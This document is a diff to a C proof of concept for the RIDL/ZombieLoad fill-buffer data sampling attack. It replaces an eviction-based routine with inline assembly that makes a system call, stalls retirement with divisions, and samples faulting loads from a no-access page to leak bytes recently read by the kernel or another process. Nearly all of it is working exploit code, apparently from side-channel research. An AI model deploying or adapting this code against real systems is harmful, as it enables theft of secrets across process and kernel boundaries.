@@ -2,34 +2,51 @@
  * RIDL and ZombieLoad (van Schaik et al., Schwarz et al., 2019), microarchitectural fill buffer data
  * sampling: a faulting load receives bytes of any line that came in last, chosen by their place in
  * the line only. Here the line is one that the kernel or another process has read before a system
- * call returned; evicting it first makes it come in anew. What is sampled is mostly something else,
- * so many samples vote.
+ * call returned.
  */
-#include "attack.h"
+#include "buffers.h"
+#include "fault.h"
 
-#include <sys/mman.h>
+static const uint8_t *denied;
 
-#include "channel.h"
-#include "evict.h"
-#include "faulting.h"
-#include "secret.h"
+/*
+ * A system call, then loads that fault. Divisions keep the first from retiring: unlike loads from
+ * memory they take no buffer.
+ */
+static void call_and_sample(long number, long first, const void *second, long third, int index)
+{
+	register const uint8_t *address_register __asm__("r9") = denied + place_of_load(index);
+	register const uint8_t *probe_register __asm__("r8") = probe;
+	register uint64_t known_register __asm__("r10") = known_before(index);
 
-enum { PAGE_BYTES = 4096 };
-
-static const uint8_t *probe, *denied;
+	__asm__ volatile(
+		RESUME_AT_9
+		"mov %[number], %%rax\n\t"
+		"syscall\n\t"
+		"mov $1, %%eax\n\t"
+		"mov $1, %%ecx\n\t"
+		"xor %%edx, %%edx\n\t"
+		"div %%rcx\n\t"
+		"div %%rcx\n\t"
+		"div %%rcx\n\t"
+		SAMPLE_BUFFERS
+		RESUMED
+		: "+d"(third)
+		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
+		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
+		: "rax", "rcx", "r11", "memory", "cc");
+}
 
 static int sample(int index)
 {
-	uint64_t place = options.address + index;
 	uint8_t answer;
 
-	evict(place, first_level_pages);
-	flush_probe(probe);
+	prepare_use(index);
 	if (options.call) {
-		call_and_send_faulting(options.call, 0, NULL, 0, denied + place % PAGE_BYTES, probe);
+		call_and_sample(options.call, 0, NULL, 0, index);
 	} else {
 		send_guess(index);
-		call_and_send_faulting(SYS_read, answers_of_service, &answer, 1, denied + place % PAGE_BYTES, probe);
+		call_and_sample(SYS_read, answers_of_service, &answer, 1, index);
 	}
 	return reload_probe(probe);
 }
@@ -44,9 +61,10 @@ int main(int argc, char **argv)
 	calibrate();
 	prepare_eviction();
 	probe = own_probe();
-	denied = mmap(NULL, PAGE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	memset(elsewhere, 1, sizeof(elsewhere));
+	denied = mmap(NULL, PAGE_BYTES + LINE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	if (denied == MAP_FAILED)
 		err(1, "mmap");
-	recover(sample, (struct patience){ .samples = 100, .lead = 4 }, 1);
+	recover_in_order(sample);
 	return 0;
 }
